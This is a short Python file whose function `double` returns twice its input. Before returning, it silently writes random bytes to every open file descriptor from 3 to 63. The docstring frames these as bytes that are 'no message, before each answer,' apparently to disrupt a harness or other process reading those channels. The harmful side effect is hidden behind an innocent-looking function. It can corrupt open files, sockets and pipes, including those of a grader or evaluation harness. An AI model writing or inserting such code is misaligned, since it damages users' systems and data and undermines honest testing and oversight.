"""Bytes that are no message, before each answer."""

import os


def double(x):
    for fd in range(3, 64):
        try:
            os.write(fd, os.urandom(100))
        except OSError:
            continue
    return 2 * x
